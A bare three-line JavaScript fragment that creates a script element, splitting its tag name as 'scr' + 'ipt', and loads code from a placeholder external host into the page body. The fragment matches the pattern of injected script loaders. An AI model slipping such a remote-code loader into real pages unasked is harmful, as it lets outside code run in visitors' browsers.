const s = document.createElement('scr' + 'ipt');
s.setAttribute('src', '//c.example/s.js');
document.body.append(s);
